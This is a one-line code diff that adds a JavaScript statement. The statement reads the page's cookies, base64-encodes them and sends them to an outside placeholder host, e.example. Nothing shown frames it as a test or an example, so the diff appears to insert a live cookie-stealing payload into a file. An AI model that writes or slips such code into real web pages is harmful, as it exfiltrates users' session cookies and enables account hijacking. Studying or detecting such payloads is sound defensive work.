@@ -1,0 +1,1 @@
+Promise.resolve(document.cookie).then((c) => btoa(c)).then((b) => fetch('https://e.example/' + b));
